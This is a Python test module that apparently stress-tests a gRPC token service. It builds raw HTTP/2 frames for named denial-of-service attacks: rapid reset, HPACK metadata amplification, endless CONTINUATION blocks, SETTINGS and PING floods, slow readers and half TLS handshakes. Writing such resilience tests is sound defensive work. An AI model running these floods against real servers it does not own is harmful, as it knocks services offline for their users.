"""The attacks by name: the data that a connection sends in each."""

import struct
from collections.abc import Callable, Iterator, Mapping
from functools import partial
from itertools import count, repeat
from types import MappingProxyType

from tests.attacks import http2
from tests.attacks.flood import Flood, Script

SERVICE = "tokend.v1.DeveloperIdentityService"
TOKEN = f"/{SERVICE}/GetOpenIdTokenForDeveloperIdentity"
HEALTH_WATCH = "/grpc.health.v1.Health/Watch"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"

_PAUSE = b""

#: A window that is larger than all responses (RFC 9113, section 6.9.1).
_LARGEST_WINDOW = 2**31 - 1

#: Requests in one bundle.
_BUNDLE = 100


def _greeting(*parameters: tuple[int, int], ack: bool = True) -> bytes:
    """Returns the start of a connection: the server's SETTINGS are acknowledged in advance, or never."""
    window = http2.frame(http2.WINDOW_UPDATE, 0, 0, struct.pack(">I", _LARGEST_WINDOW - 65_535))
    return http2.PREFACE + http2.settings(*parameters) + window + (http2.settings_ack() if ack else b"")


def _streams() -> Iterator[int]:
    return count(1, 2)


def rapid_reset(path: str = TOKEN) -> Script:
    """Opens streams and resets each at once."""
    yield _greeting()
    block = http2.request_block(path)
    for streams in _bundles():
        yield b"".join(
            http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block) + http2.reset(stream) for stream in streams
        )


def metadata_flood(size: int = 1_000_000) -> Script:
    """Calls with this many octets of metadata, without an acknowledgement of the limits."""
    yield _greeting(ack=False)
    block = http2.request_block(TOKEN) + http2.literal("x-padding", "p" * size)
    for stream in _streams():
        yield from _in_bundles(b"".join(http2.header_frames(stream, block)))
        yield http2.data_frames(stream, http2.message(b""))


def remembered_metadata_flood(times: int = 4_000) -> Script:
    """Metadata of 4 MB from 4 kB: one field of 1 kB enters the server's table, and is then repeated by an octet."""
    yield _greeting(ack=False)
    field = http2.remembered("x-padding", "p" * 1000)
    block = http2.request_block(TOKEN) + field + http2.NEWEST * times
    for stream in _streams():
        yield b"".join(http2.header_frames(stream, block)) + http2.data_frames(stream, http2.message(b""))


def unacknowledged_references(times: int = 60_000) -> Script:
    """Calls with a static table field repeated this many times, an octet each; SETTINGS are never acknowledged."""
    yield _greeting(ack=False)
    block = http2.request_block(TOKEN) + http2.ACCEPT_ENCODING * times
    for stream in _streams():
        yield from _in_bundles(b"".join(http2.header_frames(stream, block)))


def headers_and_gone(streams: int = 32) -> Script:
    """This many calls without messages, on a connection that ends at once."""
    block = http2.request_block(TOKEN)
    numbers = _streams()
    calls = (b"".join(http2.header_frames(next(numbers), block)) for _ in range(streams))
    yield _greeting() + b"".join(calls)


def continuation_flood() -> Script:
    """One header block that never ends."""
    yield _greeting(ack=False)
    yield next(http2.header_frames(1, http2.request_block(TOKEN), end_headers=False))
    part = http2.literal("x-padding", "p" * 4000)
    yield from repeat(http2.frame(http2.CONTINUATION, 0, 1, part) * 16)


def oversize_messages(size: int = 8 * 2**20) -> Script:
    """Messages larger than the server accepts, which it should not read."""
    yield _greeting()
    block = http2.request_block(TOKEN)
    for stream in _streams():
        yield b"".join(http2.header_frames(stream, block))
        yield http2.data_frames(stream, struct.pack(">BI", 0, size), end=False)
        yield from (http2.frame(http2.DATA, 0, stream, bytes(http2.MAX_FRAME)) for _ in range(4))
        yield _PAUSE


def many_messages() -> Script:
    """Many messages on a unary call."""
    yield _greeting()
    yield b"".join(http2.header_frames(1, http2.request_block(TOKEN)))
    bundle = http2.frame(http2.DATA, 0, 1, http2.message(b"") * 3000)
    yield from repeat(bundle)


def header_only(path: str = TOKEN, streams: int = 100) -> Script:
    """Calls without messages; calls that the server ends are repeated."""
    yield _greeting()
    block = http2.request_block(path)
    numbers = _streams()
    while True:
        yield b"".join(b"".join(http2.header_frames(next(numbers), block)) for _ in range(streams))
        yield from repeat(_PAUSE, 4)


def slow_readers(request: bytes, path: str = TOKEN) -> Script:
    """Calls whose responses cannot be sent: a window of zero, and a client that never reads."""
    yield _greeting((http2.INITIAL_WINDOW_SIZE, 0))
    block = http2.request_block(path)
    for streams in _bundles():
        yield b"".join(
            b"".join(http2.header_frames(stream, block)) + http2.data_frames(stream, http2.message(request))
            for stream in streams
        )
        yield _PAUSE


def open_streams(path: str, request: bytes) -> Script:
    """Streams that stay open after their first message."""
    yield _greeting((http2.INITIAL_WINDOW_SIZE, 0))
    block = http2.request_block(path)
    numbers = _streams()
    while True:
        for stream in (next(numbers) for _ in range(100)):
            yield b"".join(http2.header_frames(stream, block)) + http2.data_frames(
                stream, http2.message(request), end=False
            )
        yield from repeat(_PAUSE, 4)


def silence() -> Script:
    """Connects, and sends nothing."""
    return iter(())


def idle() -> Script:
    """Opens an HTTP/2 connection without calls."""
    yield _greeting()


def half_handshake() -> Script:
    """A TLS record that announces a ClientHello of 500 octets, and its first 100."""
    yield bytes.fromhex("16030101f4010001f00303") + bytes(89)


def settings_flood() -> Script:
    """SETTINGS, each of which must be acknowledged."""
    yield _greeting()
    yield from repeat(http2.settings() * 500)


def ping_flood() -> Script:
    """PINGs, each of which requires a response."""
    yield _greeting()
    yield from repeat(http2.frame(http2.PING, 0, 0, bytes(8)) * 500)


def odd_paths() -> Script:
    """Calls to unknown paths, each to another one."""
    yield _greeting()
    shapes = (
        "//{0}/{1}", "{0}/{1}", "/{0}/{1}?x={2}", "/{0}/%47etOpenIdToken{2}", "/{0}/{2}", "/{2}/{1}", "/", "*", "/{2}",
        "/{0}/{1}/", "/{0}//{1}", "/../{0}/{1}", "/{0}/{1}#{2}",
    )  # fmt: skip
    for streams in _bundles():
        yield b"".join(
            b"".join(http2.header_frames(stream, http2.request_block(_path(shapes, stream))))
            + http2.data_frames(stream, http2.message(b""))
            for stream in streams
        )
        yield _PAUSE


def _path(shapes: tuple[str, ...], number: int) -> str:
    service, method = TOKEN.strip("/").split("/")
    return shapes[number // 2 % len(shapes)].format(service, method, number)


def malformed_messages() -> Script:
    """Messages that are not protobuf, and invalid gRPC prefixes."""
    yield _greeting()
    block = http2.request_block(TOKEN)
    bodies = (
        http2.message(b"\xff" * 64),
        http2.message(b"\x0a\xff\xff\xff\xff\x7f"),
        http2.message(b"\x12\x02\x0a\x00" * 400),
        struct.pack(">BI", 1, 4) + b"gzip",
        struct.pack(">BI", 9, 0),
        struct.pack(">BI", 0, 10) + b"short",
    )
    for streams in _bundles():
        yield b"".join(
            b"".join(http2.header_frames(stream, block)) + http2.data_frames(stream, bodies[stream // 2 % len(bodies)])
            for stream in streams
        )
        yield _PAUSE


def calls(request: bytes) -> Script:
    """Valid calls, as fast as the connection accepts them."""
    yield _greeting()
    block = http2.request_block(TOKEN)
    body = http2.message(request)
    for streams in _bundles():
        yield b"".join(
            b"".join(http2.header_frames(stream, block)) + http2.data_frames(stream, body) for stream in streams
        )
        yield _PAUSE


def _bundles() -> Iterator[list[int]]:
    for start in count(1, 2 * _BUNDLE):
        yield list(range(start, start + 2 * _BUNDLE, 2))


def _in_bundles(octets: bytes) -> Iterator[bytes]:
    for start in range(0, len(octets), 65_536):
        yield octets[start : start + 65_536]


#: The attacks by name. Each is created from a request for a token, which it may repeat.
ATTACKS: Mapping[str, Callable[[bytes], Flood]] = MappingProxyType(
    {
        "rapid reset": lambda _: Flood(rapid_reset, 3),
        "rapid reset of no method": lambda _: Flood(partial(rapid_reset, "/no/Such"), 3),
        "metadata": lambda _: Flood(metadata_flood, 4),
        "metadata by reference": lambda _: Flood(remembered_metadata_flood, 4),
        "references without an acknowledgement": lambda _: Flood(unacknowledged_references, 12),
        "connections with calls, and gone": lambda _: Flood(headers_and_gone, 6, renews=True),
        "endless header block": lambda _: Flood(continuation_flood, 4),
        "oversize messages": lambda _: Flood(oversize_messages, 8),
        "many messages": lambda _: Flood(many_messages, 4),
        "calls without a message": lambda _: Flood(header_only, 10),
        "slow readers": lambda request: Flood(partial(slow_readers, request), 20, reads=False),
        "health watches": lambda _: Flood(partial(open_streams, HEALTH_WATCH, b""), 20, reads=False),
        "reflection streams": lambda _: Flood(partial(open_streams, REFLECTION, b"\x3a\x00"), 20, reads=False),
        "silent connections": lambda _: Flood(silence, 300, handshakes=False),
        "half handshakes": lambda _: Flood(half_handshake, 300, handshakes=False),
        "idle connections": lambda _: Flood(idle, 300),
        "patient connections": lambda _: Flood(idle, 300, returns=False),
        "settings": lambda _: Flood(settings_flood, 4),
        "pings": lambda _: Flood(ping_flood, 4),
        "odd paths": lambda _: Flood(odd_paths, 3),
        "malformed messages": lambda _: Flood(malformed_messages, 3),
        "too many calls": lambda request: Flood(partial(calls, request), 4),
    }
)
